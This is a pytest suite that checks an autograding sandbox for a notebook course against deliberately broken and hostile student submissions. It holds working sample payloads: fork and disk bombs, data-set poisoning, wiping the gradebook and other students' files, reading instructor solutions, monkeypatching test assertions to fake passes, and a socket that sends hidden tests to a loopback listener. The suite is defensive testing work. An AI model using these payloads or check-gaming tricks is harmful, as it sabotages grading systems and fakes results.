"""Broken and hostile submissions in one class: every student graded, nothing lost, no unearned points.

Each case is a student of lesson 01 (weighted_sum 3 points, filter_pixel 3 points) whose submission is
broken by accident or on purpose. One `convcourse grade` run grades them all beside two honest students;
every case must get exactly the points its honest parts earn and say what happened.
"""

from __future__ import annotations

import contextlib
import copy
import hashlib
import json
import shutil
import socket
import subprocess
import sys
import threading
from dataclasses import dataclass
from pathlib import Path

import nbformat
import psutil
import pytest
from nbgrader.api import Gradebook

from convcourse import notebooks
from convcourse.release import nbgrader_environment
from nbgrader_course import Course, convcourse_grade

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("hostile_submissions")]

LESSON = "01_one_pixel"
WEIGHTED, FILTER = "weighted_sum_seed_pixel", "filter_pixel_small_image"
ORPHAN_MARKER = "987654"  # `sleep 987654`: a process a submission starts and detaches


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


# A listener on this machine's loopback while the class is graded: a kernel that could reach it could also
# reach the internet, and send out the hidden tests it runs (sends_the_hidden_tests tries).
LISTENER_PORT = _free_port()


def _solution_answers() -> dict[str, str]:
    source = notebooks.read(LESSON)
    return {notebooks.nbgrader_meta(c)["grade_id"]: c.source for c in source.cells
            if notebooks.nbgrader_meta(c).get("solution") and c.cell_type == "code"}


ANSWERS = _solution_answers()
WRONG_WEIGHTED_SUM = "def weighted_sum(patch, kernel):\n    return 0.0\n"


def solved(**changes: str) -> nbformat.NotebookNode:
    """The release with the solution in every answer cell, except the answer cells named in ``changes``."""
    return notebooks.with_answers(notebooks.read(LESSON, release=True), {**ANSWERS, **changes})


def after_filter_pixel(code: str) -> nbformat.NotebookNode:
    """Correct answers, then ``code`` at the end of the filter_pixel answer cell."""
    return solved(filter_pixel=ANSWERS["filter_pixel"] + "\n" + code)


def instead_of_filter_pixel(code: str) -> nbformat.NotebookNode:
    """A correct weighted_sum; ``code`` instead of filter_pixel (which is then never defined)."""
    return solved(filter_pixel=code)


def gaming(code: str) -> nbformat.NotebookNode:
    """A wrong weighted_sum (always 0) with ``code`` that tries to make the checks pass anyway."""
    return solved(weighted_sum=WRONG_WEIGHTED_SUM + code)


def _edit_cell(nb, grade_id, change):
    nb = copy.deepcopy(nb)
    change(nb, notebooks.cell(nb, grade_id))
    return nb


def _moved(nb):
    nb = copy.deepcopy(nb)
    cell = notebooks.cell(nb, WEIGHTED)
    nb.cells.remove(cell)
    nb.cells.insert(0, cell)
    return nb


def _duplicated(nb):
    nb = copy.deepcopy(nb)
    duplicate = copy.deepcopy(notebooks.cell(nb, WEIGHTED))
    duplicate.id = "pasted"
    nb.cells.insert(2, duplicate)
    return nb


def _without_cells(nb, keep=lambda cell: False):
    nb = copy.deepcopy(nb)
    nb.cells = [cell for cell in nb.cells if keep(cell)]
    return nb


def _bytes(nb) -> bytes:
    return nbformat.writes(nb).encode()


def _as_version_3(nb) -> bytes:
    return nbformat.writes(nbformat.convert(copy.deepcopy(nb), 3), version=3).encode()


def _points_raised(nb):
    def change(_, cell):
        cell.metadata.nbgrader["points"] = 100
        cell.metadata.nbgrader["checksum"] = "0" * 32
    return _edit_cell(nb, WEIGHTED, change)


def _renamed_answer(nb):
    def change(_, cell):
        cell.metadata.nbgrader["grade_id"] = "my_own_id"
    return _edit_cell(nb, "weighted_sum", change)


def _other_lesson() -> bytes:
    source = notebooks.read("02_whole_image")
    answers = {notebooks.nbgrader_meta(c)["grade_id"]: c.source for c in source.cells
               if notebooks.nbgrader_meta(c).get("solution") and c.cell_type == "code"}
    return _bytes(notebooks.with_answers(notebooks.read("02_whole_image", release=True), answers))


# Each limit's case asks for a few times its limit and no more, so a missing limit cannot endanger the machine.
FILL = """
for index in range({files}):
    with open(f'{folder}/fill{{index}}', 'wb') as handle:
        for _ in range(200):
            handle.write(bytes(1 << 20))
"""
FORKS = "import subprocess\nsleepers = [subprocess.Popen(['sleep', '300']) for _ in range(1500)]"
OPENS = "handles = [open('/dev/null') for _ in range(20_000)]"


# Writes into the data sets in its home: were they links to the instructor's caches, every later student's
# data would be garbage.
POISON = """
import glob, os
for path in glob.glob(os.path.expanduser('~/.keras/datasets/*/*')) + glob.glob(os.path.expanduser('~/.cache/*/*')):
    try:
        with open(path, 'r+b') as handle:
            handle.write(b'poisoned')
    except OSError:
        pass
"""

FIND_COURSE = '''
import glob, os, psutil
def course_folders():
    for p in psutil.process_iter(["cmdline", "cwd"]):
        if p.info["cmdline"] and "grade" in p.info["cmdline"] and p.info["cwd"]:
            yield p.info["cwd"]
'''


@dataclass(frozen=True)
class Case:
    name: str
    files: dict[str, bytes]       # the files of submitted/<name>/01_one_pixel/
    points: tuple[float, float]   # weighted_sum test, filter_pixel test
    says: str = ""                # in the outcome or notes of the student's record


def nb_file(nb) -> dict[str, bytes]:
    return {f"{LESSON}.ipynb": nb if isinstance(nb, bytes) else _bytes(nb)}


CASES = [
    # Broken files
    Case("not_json", nb_file(b"I wrote my answers in Word"), (0, 0), "not valid JSON"),
    Case("truncated_json", nb_file(_bytes(solved())[:700]), (0, 0), "not valid JSON"),
    Case("empty_file", nb_file(b""), (0, 0), "the file is empty"),
    Case("not_a_notebook_json", nb_file(b'{"cells": 3}'), (0, 0), "not a valid notebook"),
    Case("nbformat_3", nb_file(_as_version_3(solved())), (3, 3), "converted from notebook format 3"),
    Case("wrong_file_name", {"my answers.ipynb": _bytes(solved())}, (3, 3), "was named 'my answers.ipynb'"),
    Case("missing_notebook", {"notes.txt": b"I could not finish"}, (0, 0), "no notebook"),
    Case("other_lesson", nb_file(_other_lesson()), (0, 0), "another lesson's notebook"),
    # Edited structure
    Case("test_deleted", nb_file(_without_cells(solved(), lambda c: notebooks.nbgrader_meta(c).get("grade_id")
                                                  != WEIGHTED)), (3, 3), f"'{WEIGHTED}' was missing"),
    Case("test_edited", nb_file(_edit_cell(gaming(""), WEIGHTED, lambda _, c: setattr(c, "source", "pass"))),
         (0, 0), f"'{WEIGHTED}' was edited"),
    Case("test_moved", nb_file(_moved(solved())), (3, 3), "moved"),
    Case("test_duplicated", nb_file(_duplicated(solved())), (3, 3), "appeared 2 times"),
    Case("points_and_checksum_edited", nb_file(_points_raised(solved())), (3, 3)),
    Case("answer_grade_id_changed", nb_file(_renamed_answer(solved())), (3, 3), "graded as ordinary code"),
    Case("all_cells_cleared", nb_file(_without_cells(solved())), (0, 0), "was missing"),
    # Runaway code
    Case("infinite_loop", nb_file(instead_of_filter_pixel("while True:\n    pass")), (3, 0), "CellTimeoutError"),
    Case("sleep_forever", nb_file(instead_of_filter_pixel("import time\ntime.sleep(10 ** 6)")), (3, 0),
         "CellTimeoutError"),
    Case("memory_hog", nb_file(instead_of_filter_pixel(
        "blocks = []\nwhile True:\n    blocks.append(bytearray(256 << 20))")), (3, 0)),
    Case("print_bomb", nb_file(after_filter_pixel("for _ in range(300):\n    print('x' * 1_000_000)")), (3, 3)),
    Case("orphan_process", nb_file(after_filter_pixel(
        f"import subprocess\nsubprocess.Popen(['sleep', '{ORPHAN_MARKER}'], start_new_session=True)")), (3, 3)),
    Case("os_exit", nb_file(instead_of_filter_pixel("import os\nos._exit(0)")), (3, 0), "KernelDied"),
    Case("sys_exit", nb_file(after_filter_pixel("import sys\nsys.exit()")), (3, 3)),
    Case("segfault", nb_file(instead_of_filter_pixel("import ctypes\nctypes.string_at(0)")), (3, 0), "KernelDied"),
    # In the sandbox the kernel is its namespace's first process, which its own SIGKILL cannot end.
    Case("kills_itself", nb_file(instead_of_filter_pixel("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")),
         (3, 0)),
    Case("aborts", nb_file(instead_of_filter_pixel("import os\nos.abort()")), (3, 0)),
    # Limits the job sets (protocol.Limits): the cell that goes over fails, the rest is graded
    Case("fills_tmp", nb_file(instead_of_filter_pixel(FILL.format(folder="/tmp", files=6))), (3, 0)),
    Case("fills_shm", nb_file(instead_of_filter_pixel(FILL.format(folder="/dev/shm", files=2))), (3, 0)),
    # Files each under the per-file cap, in its working folder (on disk, in the job's folder): the supervisor
    # stops the job past Limits.folder_mb (1.6 GB asked, about 1 GB written), so no test of it counts.
    Case("fills_job_folder", nb_file(instead_of_filter_pixel(FILL.format(folder=".", files=8))), (0, 0),
         "disk: its folder held"),
    Case("fork_bomb", nb_file(instead_of_filter_pixel(FORKS)), (3, 0)),
    Case("poisons_the_data_sets", nb_file(after_filter_pixel(POISON)), (3, 3)),
    Case("opens_every_file", nb_file(instead_of_filter_pixel(OPENS)), (3, 0)),
    # Gaming the checks (weighted_sum returns 0; filter_pixel is built on it)
    Case("patched_numpy_testing", nb_file(gaming(
        "np.testing.assert_allclose = lambda *a, **k: None\nnp.testing.assert_array_equal = lambda *a, **k: None")),
        (0, 0)),
    Case("patched_allclose", nb_file(gaming("np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True")),
         (0, 0)),
    Case("patched_checks", nb_file(gaming(
        "checks.check_weighted_sum = checks.check_weighted_sum_random = lambda *a, **k: None\n"
        "checks.check_filter_pixel = checks.check_filter_pixel_random = lambda *a, **k: None")), (0, 0),
        "re-checked outside"),
    Case("redefined_assertion_error", nb_file(gaming(
        "import builtins, sys\nbuiltins.AssertionError = type('AssertionError', (Exception,), {})\n"
        "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)")), (0, 0)),
    Case("catches_everything", nb_file(solved(weighted_sum=(
        "try:\n" + "".join("    " + line + "\n" for line in ANSWERS["weighted_sum"].splitlines())
        + "    raise RuntimeError('anything')\nexcept BaseException:\n    pass\n"))), (3, 3)),
    Case("always_equal", nb_file(solved(weighted_sum=(
        "class Anything(float):\n    def __eq__(self, other):\n        return True\n    __hash__ = float.__hash__\n"
        "    def __sub__(self, other):\n        return 0.0\n    __rsub__ = __sub__\n"
        "def weighted_sum(patch, kernel):\n    return Anything(577)\n"))), (0, 0)),
    Case("answers_from_the_checks", nb_file(solved(weighted_sum=(
        "import sys\ndef weighted_sum(patch, kernel):\n    frame = sys._getframe(1)\n    while frame:\n"
        "        for name, value in frame.f_locals.items():\n"
        "            if name.startswith('expect'):\n                return value\n        frame = frame.f_back\n"
        "    return 577.0\n"))), (0, 0)),
    Case("reads_the_solutions", nb_file(solved(weighted_sum=(
        "import json, glob\nfrom convcourse import COURSE_ROOT\n"
        "for path in glob.glob(str(COURSE_ROOT.parent) + '/*/solutions/01_one_pixel/*.ipynb') + "
        "glob.glob('/tmp/**/solutions/01_one_pixel/*.ipynb', recursive=True):\n    try:\n"
        "        for cell in json.load(open(path))['cells']:\n"
        "            if cell['metadata'].get('nbgrader', {}).get('solution'):\n"
        "                exec(''.join(cell['source']).replace('### BEGIN SOLUTION', ''))\n        break\n"
        "    except Exception:\n        pass\n"), filter_pixel="pass")), (0, 0)),
    Case("writes_the_gradebook", nb_file(gaming(FIND_COURSE + (
        "for folder in course_folders():\n    try:\n"
        "        open(os.path.join(folder, 'gradebook.db'), 'wb').write(b'gone')\n"
        "    except OSError:\n        pass\n"))), (0, 0)),
    Case("writes_other_students", nb_file(gaming(FIND_COURSE + (
        "for folder in course_folders():\n    for path in glob.glob(os.path.join(folder, 'submitted', '*', '*', '*')):\n"
        "        try:\n            open(path, 'w').write('{}')\n        except OSError:\n            pass\n"))), (0, 0)),
    Case("sends_the_hidden_tests", nb_file(solved(weighted_sum=ANSWERS["weighted_sum"] + (
        "\nimport socket\n"
        "def _send(text):\n    try:\n"
        f"        with socket.create_connection(('127.0.0.1', {LISTENER_PORT}), timeout=3) as connection:\n"
        "            connection.sendall(text.encode())\n    except OSError:\n        pass\n"
        "_send('hello from a kernel')\n"
        "_honest = weighted_sum\n"
        "def weighted_sum(patch, kernel):\n"
        "    _send('\\n'.join(get_ipython().user_ns.get('In', [])))  # the test cell running, hidden tests too\n"
        "    return _honest(patch, kernel)\n"))), (3, 3)),
]
HONEST = {"alice": (solved(), (3, 3)),
          "partial": (solved(filter_pixel="def filter_pixel(image, kernel, row, col):\n    return 0.0\n"), (3, 0))}


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _scores(root: Path) -> dict[str, tuple[float, float]]:
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
        result = {}
        for submission in gradebook.assignment_submissions(LESSON):
            grades = {g.name: g.auto_score for g in submission.notebooks[0].grades}
            result[submission.student.id] = (grades[WEIGHTED], grades[FILTER])
        return result


def _grade(root: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return convcourse_grade(root, LESSON, "--cell-timeout", "20", "--time-limit", "240", "--memory-mb", "2048", *args,
                            env=env)


def _data_sets_of_its_own(folder: Path) -> dict[str, str]:
    """The grading run's environment with an offline copy of the data sets that only this class uses: the files
    the jobs copy into each kernel's home (poisons_the_data_sets must not reach them)."""
    from convcourse import data

    copies = data.cache_folders(offline=folder)
    for name, source in data.cache_folders().items():
        shutil.copytree(source, copies[name])
    return {**nbgrader_environment(), "CONVCOURSE_OFFLINE_DATA": str(folder)}


# Session scope: xdist may interleave other modules' tests on this worker, and pytest ends a module-scoped
# fixture whenever the next test comes from another module; this class is graded once per run.
@pytest.fixture(scope="session")
def hostile_class(tmp_path_factory, artifacts):
    course = Course(tmp_path_factory.mktemp("hostile") / "course", (LESSON,))
    for name, (notebook, _) in HONEST.items():
        course.submit(name, LESSON, notebook)
    for case in CASES:
        folder = course.root / "submitted" / case.name / LESSON
        folder.mkdir(parents=True)
        for file_name, content in case.files.items():
            (folder / file_name).write_bytes(content)
    submitted_before = _digest(course.root / "submitted")
    data_sets = tmp_path_factory.mktemp("data")
    env = _data_sets_of_its_own(data_sets)
    data_before = _digest(data_sets)
    with _listening(LISTENER_PORT) as received:
        run = _grade(course.root, "--jobs", "2", env=env)
    (artifacts / "hostile_received.txt").write_text("\n---\n".join(received))
    (artifacts / "hostile_summary.txt").write_text(run.stdout + "\n" + run.stderr)
    records = {p.stem: json.loads(p.read_text()) for p in (course.root / "grading" / LESSON / "students").glob("*.json")}
    return course, run, submitted_before, records, received, (data_sets, data_before)


@contextlib.contextmanager
def _listening(port: int):
    """Accept connections on 127.0.0.1:``port`` in a thread; yields the list of what each one sent."""
    received: list[str] = []
    server = socket.create_server(("127.0.0.1", port), reuse_port=False)
    server.settimeout(0.5)
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:  # the timeout: look at `stop` again
                continue
            with connection:
                connection.settimeout(5)
                chunks = []
                with contextlib.suppress(OSError):
                    while chunk := connection.recv(65536):
                        chunks.append(chunk)
                received.append(b"".join(chunks).decode(errors="replace"))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield received
    finally:
        stop.set()
        thread.join()
        server.close()


def test_no_kernel_reaches_the_network(hostile_class):
    """The kernels have no network: the listener on this machine's loopback heard nothing."""
    received = hostile_class[4]
    assert received == [], f"a kernel connected and sent: {received[0][:300]!r}"


def test_no_submission_changes_the_data_sets_later_students_read(hostile_class):
    """Each kernel reads copies in its own home: poisons_the_data_sets wrote into those, not into the originals."""
    folder, before = hostile_class[5]
    assert _digest(folder) == before


def test_at_least_twenty_cases():
    assert len(CASES) >= 20 and len({case.name for case in CASES}) == len(CASES)


def test_the_command_finishes_and_exits_zero(hostile_class):
    _, run, _, records, _, _ = hostile_class
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    assert set(records) == {case.name for case in CASES} | set(HONEST)


def test_honest_students_are_graded_as_without_the_others(hostile_class):
    scores = _scores(hostile_class[0].root)
    for name, (_, points) in HONEST.items():
        assert scores[name] == points, name


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_each_case_gets_exactly_its_honest_points_and_says_what_happened(hostile_class, case):
    course, run, _, records, _, _ = hostile_class
    assert _scores(course.root)[case.name] == case.points
    record = records[case.name]
    told = record["outcome"] + " | " + " ; ".join(record["notes"])
    assert case.says in told, told
    assert f"\n{case.name} " in run.stdout, "a line in the summary table"


def test_submitted_files_are_never_modified(hostile_class):
    course, _, before, _, _, _ = hostile_class
    assert _digest(course.root / "submitted") == before


def test_no_process_outlives_grading(hostile_class):
    leftovers = [p for p in psutil.process_iter(["cmdline"]) if ORPHAN_MARKER in " ".join(p.info["cmdline"] or [])]
    assert not leftovers


def test_gradebook_is_consistent_with_the_records_and_csv(hostile_class):
    course, _, _, records, _, _ = hostile_class
    scores = _scores(course.root)
    for name, record in records.items():
        cells = {cell["name"]: cell["points"] for cell in record["cells"]}
        assert (cells[WEIGHTED], cells[FILTER]) == scores[name], name
    rows = (course.root / "grading" / LESSON / "test-results.csv").read_text().splitlines()
    assert len(rows) == 1 + 3 * len(records)


def test_a_rerun_gives_the_same_result(hostile_class):
    course = hostile_class[0]
    again = ["os_exit", "test_deleted", "not_json", "patched_checks", "writes_the_gradebook", "alice"]
    before = _scores(course.root)
    run = _grade(course.root, "--students", ",".join(again), "--force")
    assert run.returncode == 0, run.stdout[-2000:] + run.stderr[-2000:]
    assert _scores(course.root) == before


@pytest.mark.parametrize("student", ["reads_the_solutions", "sends_the_hidden_tests"])
def test_the_case_is_a_real_threat_without_the_sandbox(hostile_class, tmp_path, student):
    """Stock nbgrader (no sandbox) on the same file: reading the solutions from disk would earn full points,
    and the kernel would send the hidden tests it ran to the listener."""
    course = hostile_class[0]
    copy_root = tmp_path / "course"
    subprocess.run(["cp", "-a", str(course.root), str(copy_root)], check=True)
    with _listening(LISTENER_PORT) as received:
        subprocess.run([sys.executable, "-m", "nbgrader", "autograde", LESSON, "--student", student, "--force"],
                       cwd=copy_root, env=nbgrader_environment(), capture_output=True, timeout=600)
    if student == "reads_the_solutions":
        assert _scores(copy_root)[student] == (3, 3)
    else:
        hidden = "check_weighted_sum_random(weighted_sum, seed=101)"  # lesson 01's hidden test
        assert "hello from a kernel" in received and any(hidden in text for text in received)
